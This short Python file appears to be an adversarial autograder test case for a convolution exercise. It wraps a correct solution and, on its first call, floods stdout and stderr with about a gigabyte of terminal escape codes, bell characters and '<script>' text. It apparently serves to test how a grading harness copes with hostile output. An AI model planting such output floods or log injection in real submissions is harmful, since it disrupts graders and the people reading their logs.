"""Print a gigabyte while answering right."""

BASE = "solution"
EARNS = "all"

import os

_once = []
_quiet = conv_forward_naive


def conv_forward_naive(x, w, b, conv_param):
    if not _once:
        _once.append(True)
        line = b"\x1b[2J\x1b[31mhostile <script>\x07" * 50_000
        for number in range(1000):
            os.write(1 + number % 2, line[:1_000_000])
    return _quiet(x, w, b, conv_param)
